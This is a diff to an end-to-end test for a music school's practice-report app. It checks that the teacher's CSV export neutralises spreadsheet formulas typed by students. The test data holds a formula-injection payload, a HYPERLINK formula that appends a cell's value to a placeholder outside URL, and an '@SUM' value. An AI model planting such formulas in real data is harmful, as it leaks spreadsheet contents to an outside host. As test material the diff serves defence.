@@ -299,6 +299,17 @@ describe('Assigner une Pratique, for the teacher', () => {
   });
 
   it('exports a group’s practice of a period as a CSV a French spreadsheet opens', async () => {
+    // Issue 34.4: a student's text that a spreadsheet would run as a formula, across lines or after a tab.
+    const formula = '=HYPERLINK("https://exemple.invalid/?d="&C2,\n"Cliquez ici")';
+    const emma = await asStudent('eleve3@demo.crescendo.ca');
+    const sent = await emma('POST', '/practice-reports', {
+      practiceDate: new Date().toLocaleDateString('en-CA', { timeZone: 'America/Toronto' }),
+      duration: 20,
+      location: 'home',
+      content: formula,
+      nextGoals: '  @SUM(1+1)\tpuis +1',
+    });
+    expect(sent.status).toBe(201);
     const page = await journey.sessions.signedIn(demo.teacher, '/teacher/devoirs');
     const followUp = portal(page, 'teacher').getByRole('region', { name: 'Suivi de la pratique' });
     await followUp.getByLabel('Groupe', { exact: true }).selectOption({ label: 'MUS212 — Harmonie' });
@@ -329,6 +340,10 @@ describe('Assigner une Pratique, for the teacher', () => {
     }
     // Hours with a decimal comma where the minutes are not whole hours.
     expect(rows.some((row) => /;\d+;\d+,\d{1,2};/.test(row))).toBe(true);
+    // The formula comes out as text: quoted, a single quote first, never a live '=' or '@' at a cell's start.
+    expect(text).toContain(`;"'${formula.replaceAll('"', '""')}";`);
+    expect(text).toContain(`;"'@SUM(1+1)\tpuis +1";`);
+    expect(text).not.toMatch(/(^|;|\r\n)"?=HYPERLINK/);
   });
 
   it('works at 390 px wide: the list, the form and the follow-up fit the screen', async () => {
